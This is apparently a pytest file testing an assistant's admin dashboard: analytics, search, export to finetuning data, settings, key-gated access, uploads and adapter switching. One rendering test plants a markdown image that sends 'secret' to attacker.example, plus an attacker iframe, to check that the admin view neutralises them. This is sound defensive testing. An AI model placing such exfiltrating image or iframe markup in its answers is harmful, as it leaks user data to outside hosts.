"""The admin area: its key gate, analytics, search, settings, and the export
round-tripping through the finetune data loader."""

from __future__ import annotations

import json

import pytest

from test_app import make_runtime


@pytest.fixture
def store(tmp_path):
    from assistant.store import Store
    from assistant.types import Conversation, Turn

    s = Store(tmp_path / "a.sqlite")
    conv = s.create("alice")
    for user, answer, lang, intent in [("How do refunds work?", "Within five days.", "en", "refund"),
                                       ("退款要多久？", "五个工作日。", "zh", "refund"),
                                       ("I want a human", "I will connect you.", "en", "human_handoff")]:
        t = Turn(user=user, answer=answer, language=lang, intent=intent)
        conv.turns.append(t)
        s.append_turn(conv, t)
    cancelled = Turn(user="stop this", answer="half", finish_reason="cancelled")
    conv.turns.append(cancelled)
    s.append_turn(conv, cancelled)
    s.set_feedback(conv.turns[0].id, 1, "clear", owner="alice")
    s.set_feedback(conv.turns[1].id, -1, "too short", owner="alice")
    s.record_event("handoff", conv.id, {"turn_id": conv.turns[2].id, "message": "I want a human"})
    s.record_event("no_source", conv.id, {"turn_id": "x", "query": "Where is the moon?"})
    other = s.create("bob")
    t = Turn(user="Hello", answer="Hi!", language="en", intent="greeting")
    other.turns.append(t)
    s.append_turn(other, t)
    yield s
    s.close()


def test_analytics(store):
    from assistant.web import admin

    langs = {r["language"]: r["count"] for r in admin.languages(store)}
    assert langs["en"] == 3 and langs["zh"] == 1
    assert admin.ratings(store) == [{"rating": "up", "count": 1}, {"rating": "down", "count": 1}]
    intents = {(r["intent"]): r["count"] for r in admin.intents_over_time(store)}
    assert intents["refund"] == 2 and intents["greeting"] == 1
    assert admin.unanswered(store)[0]["question"] == "Where is the moon?"
    assert admin.handoffs(store)[0]["message"] == "I want a human"
    reasons = {r["reason"] for r in admin.feedback_rows(store)}
    assert reasons == {"clear", "too short"}


def test_conversation_view_renders_answers_safely(store):
    from assistant.web import admin
    from assistant.types import Turn

    conv = store.create("mallory")
    turn = Turn(user="<b>me</b>", answer="**Five** days. ![x](https://attacker.example/?d=secret) <iframe "
                                          "src=https://attacker.example/f></iframe> ![ok](https://cdn.example/a.png)")
    conv.turns.append(turn)
    store.append_turn(conv, turn)
    page = admin.conversation_html(store, conv.id, ("https://cdn.example",))
    assert "<strong>Five</strong>" in page and "&lt;b&gt;me&lt;/b&gt;" in page
    assert "<iframe" not in page and "&lt;iframe" in page
    assert 'href="https://attacker.example/?d=secret" rel="noopener noreferrer nofollow"' in page
    assert page.count("<img") == 1 and '<img src="https://cdn.example/a.png"' in page
    assert admin.conversation_html(store, "nope") == "<p>No such conversation.</p>"


def test_search_filters(store):
    from assistant.web import admin
    from assistant.errors import InputError

    assert [r["user"] for r in admin.search(store, text="refund")] == ["How do refunds work?"]
    assert [r["user"] for r in admin.search(store, language="zh")] == ["退款要多久？"]
    assert [r["user"] for r in admin.search(store, rating="down")] == ["退款要多久？"]
    assert len(admin.search(store, intent="refund")) == 2
    assert admin.search(store, since="2999-01-01") == []
    assert len(admin.search(store, until="2999-01-01")) == 5
    with pytest.raises(InputError, match="YYYY-MM-DD"):
        admin.search(store, since="yesterday")
    with pytest.raises(InputError, match="rating must be"):
        admin.search(store, rating="great")


def test_export_round_trips_through_the_finetune_loader(store, tmp_path):
    from assistant.web import admin

    path = tmp_path / "all.jsonl"
    path.write_text("\n".join(admin.export_jsonl(store, system_prompt="Be brief.")) + "\n", encoding="utf-8")
    rated = tmp_path / "rated.jsonl"
    rated.write_text("\n".join(admin.export_jsonl(store, rated_only=True)) + "\n", encoding="utf-8")

    records = [json.loads(line) for line in path.read_text().splitlines()]
    assert len(records) == 2  # one line per conversation
    assert records[0]["messages"][0] == {"role": "system", "content": "Be brief."}
    assert all("half" not in m["content"] for m in records[0]["messages"])  # cancelled turn left out
    rated_records = [json.loads(line) for line in rated.read_text().splitlines()]
    assert [r["rating"] for r in rated_records] == [1, -1]
    assert rated_records[1]["reason"] == "too short"
    assert rated_records[1]["messages"][-1] == {"role": "assistant", "content": "五个工作日。"}
    assert len(rated_records[1]["messages"]) == 4  # the history before the rated answer

    data = pytest.importorskip("finetune.data", reason="finetune/data.py is not there yet")
    loaded = data.load_dialogues(path)
    assert len(loaded.dialogues) == 2 and not loaded.skipped
    assert loaded.dialogues[0].as_dicts() == records[0]["messages"]
    loaded_rated = data.load_dialogues(rated)
    assert [d.as_dicts() for d in loaded_rated.dialogues] == [r["messages"] for r in rated_records]


def test_settings_validate_and_apply(store, tiny_lm):
    from assistant.web import admin
    from assistant.config import AppConfig
    from assistant.engine import Engine
    from assistant.errors import InputError

    config = AppConfig(home=store.path.rsplit("/", 1)[0])
    assert admin.load_settings(store, config).assistant_name == "Assistant"
    with pytest.raises(InputError, match="must look like https://example.com"):
        admin.save_settings(store, "Ava", "hi", "You are {name}.", "example.com/path")
    with pytest.raises(InputError, match="assistant name is empty"):
        admin.save_settings(store, " ", "hi", "You are {name}.", "")
    s = admin.save_settings(store, "Ava", "Welcome!", "You are {name}.", "https://a.example, https://b.example/")
    assert s.allowed_origins == ("https://a.example", "https://b.example")
    again = admin.load_settings(store, config)
    assert again == s and again.resolved_system_prompt() == "You are Ava."
    engine = Engine(tiny_lm, store)
    admin.apply_settings(engine, again)
    assert engine.chat.assistant_name == "Ava" and engine.chat.system_prompt == "You are {name}."


def test_embed_snippet():
    from assistant.web import admin

    snippet = admin.embed_snippet("https://help.example.com/")
    assert '<script type="module" src="https://help.example.com/gradio.js"></script>' in snippet
    assert '<gradio-app src="https://help.example.com/"></gradio-app>' in snippet
    assert '<iframe src="https://help.example.com/"' in snippet


@pytest.fixture
def admin_client(tmp_path, tiny_lm):
    from fastapi.testclient import TestClient

    from assistant.web.server import create_app

    rt = make_runtime(tmp_path, tiny_lm, admin_key="s3cret")
    from assistant.types import Turn

    conv = rt.store.create("someone")
    turn = Turn(user="Hello there", answer="Hi!", language="en")
    conv.turns.append(turn)
    rt.store.append_turn(conv, turn)
    with TestClient(create_app(rt)) as c:
        yield c


def test_admin_refuses_requests_without_the_key(admin_client):
    assert admin_client.get("/admin-api/export.jsonl").status_code == 401
    assert admin_client.get("/admin-api/export.jsonl", headers={"Authorization": "Bearer wrong"}).status_code == 401
    assert admin_client.get("/admin-api/analytics").status_code == 401
    # The Gradio admin app itself: its config and API need a login.
    assert admin_client.get("/admin/config").status_code in (401, 403)
    assert admin_client.post("/admin/login", data={"username": "x", "password": "wrong"}).status_code == 400
    ok = admin_client.get("/admin-api/export.jsonl", headers={"Authorization": "Bearer s3cret"})
    assert ok.status_code == 200
    assert json.loads(ok.text.splitlines()[0])["messages"][0]["role"] == "system"
    assert admin_client.get("/admin-api/analytics", headers={"X-Admin-Key": "s3cret"}).json()["languages"]


def test_admin_login_opens_the_admin_app(admin_client):
    r = admin_client.post("/admin/login", data={"username": "support", "password": "s3cret"})
    assert r.status_code == 200
    assert admin_client.get("/admin/config").status_code == 200


def test_admin_disabled_without_a_key(tmp_path, tiny_lm):
    from fastapi.testclient import TestClient

    from assistant.web.server import create_app

    rt = make_runtime(tmp_path, tiny_lm)
    with TestClient(create_app(rt)) as c:
        assert c.get("/admin").status_code == 404
        assert "ASSISTANT_ADMIN_KEY" in c.get("/admin-api/export.jsonl").json()["error"]


def test_documents_need_an_index():
    from assistant.web import admin
    from assistant.errors import InputError

    assert admin.document_rows(None) == []
    with pytest.raises(InputError, match="retrieval is off"):
        admin.upload_documents(None, [("a.md", b"# A")])


class FakeIndex:
    """Records what the admin functions ask of a ``KnowledgeIndex``."""

    def __init__(self) -> None:
        self.docs: dict[str, bytes] = {}
        self.saved = 0

    def add_upload(self, filename, data, tags=()):
        from types import SimpleNamespace

        from assistant.errors import InputError

        if not filename.endswith((".md", ".txt")):
            raise InputError(f"upload {filename!r}: unsupported file type")
        new = filename not in self.docs
        self.docs[filename] = data
        return SimpleNamespace(added=[filename] if new else [], updated=[] if new else [filename], chunks_added=2,
                               flagged={})

    def documents(self):
        from types import SimpleNamespace

        return [SimpleNamespace(doc_id=n, title=n, source=f"upload:{n}", kind="markdown", chunks=2,
                                languages=("en",), added_at="now", flagged=0, allowed=False) for n in self.docs]

    def remove(self, doc):
        from types import SimpleNamespace

        from assistant.errors import InputError

        if doc not in self.docs:
            raise InputError(f"no document {doc!r}")
        del self.docs[doc]
        return SimpleNamespace(title=doc, source=f"upload:{doc}", chunks=2)

    def save(self):
        self.saved += 1

    def flagged(self):
        return []  # these uploads hold nothing to flag (screening itself: tests/test_screening.py)

    def add_paths(self, paths):
        raise AssertionError("uploads are not re-read from disk")


def test_upload_list_remove_rebuild_through_the_index():
    from assistant.web import admin
    from assistant.errors import InputError

    index, progress = FakeIndex(), []
    report = admin.upload_documents(index, [("a.md", b"# A"), ("b.txt", b"B"), ("c.exe", b"x")],
                                    progress=lambda x, d: progress.append(x))
    assert "a.md: added, 2 chunks" in report and "c.exe" in report and "unsupported" in report
    assert progress[0] == 0 and progress[-1] == 1.0 and index.saved == 1
    assert [r["doc_id"] for r in admin.document_rows(index)] == ["a.md", "b.txt"]
    assert "Removed" in admin.remove_document(index, "a.md") and index.saved == 2
    with pytest.raises(InputError, match="no document"):
        admin.remove_document(index, "zzz")
    assert "Index saved" in admin.rebuild_index(index)


def test_admin_switches_the_adapter_and_the_next_turn_uses_it(tmp_path):
    import torch
    from peft import LoraConfig, get_peft_model
    from tiny_model import tiny_loaded

    from assistant.web import admin
    from assistant.config import AppConfig, GenerationConfig, ModelConfig
    from assistant.errors import InputError
    from assistant.generation.local import Generation
    from assistant.runtime import build_runtime

    base = tiny_loaded()
    folder = tmp_path / "tiny"
    base.model.save_pretrained(folder)
    base.tokenizer.save_pretrained(folder)
    lora = get_peft_model(base.model, LoraConfig(r=4, lora_alpha=8, target_modules=["q_proj", "v_proj"]))
    for name, p in lora.named_parameters():
        if "lora_B" in name:
            torch.nn.init.normal_(p, std=0.5)  # B starts at zero: make the adapter change something
    adapter_dir = tmp_path / "home" / "adapters" / "mine"
    lora.save_pretrained(adapter_dir)

    config = AppConfig(home=tmp_path / "home", model=ModelConfig(name=str(folder), quantization="none", adapters=()))
    rt = build_runtime(config, retrieval=False, understanding=False, store_path=":memory:")
    choices = admin.adapter_choices(config.home, rt.lm.name, rt.lm.adapters)
    assert choices == [admin.NO_ADAPTER, str(adapter_dir)]
    prompt = rt.lm.tokenizer.apply_chat_template([{"role": "user", "content": "How do refunds work?"}],
                                                 add_generation_prompt=True, tokenize=True)["input_ids"]
    settings = GenerationConfig(max_new_tokens=8, temperature=0.0, repetition_penalty=1.0)
    before = Generation(rt.engine.lm, prompt, settings).run()

    message = admin.switch_adapter(rt, str(adapter_dir))
    assert "mine" in message and rt.lm.adapters == (str(adapter_dir),) and rt.engine.lm is rt.lm
    with_adapter = Generation(rt.engine.lm, prompt, settings).run()
    assert max(abs(a - b) for a, b in zip(with_adapter.logprobs, before.logprobs)) > 1e-2
    admin.switch_adapter(rt, admin.NO_ADAPTER)
    # back to the base model: the same tokens, and log-probabilities equal up to float rounding (taking
    # the adapter off leaves differences in the sixth digit, run to run)
    after = Generation(rt.engine.lm, prompt, settings).run()
    assert rt.lm.adapters == () and after.token_ids == before.token_ids
    assert max(abs(a - b) for a, b in zip(after.logprobs, before.logprobs)) < 1e-4
    with pytest.raises(InputError, match="unknown adapter"):
        admin.switch_adapter(rt, str(tmp_path / "elsewhere"))
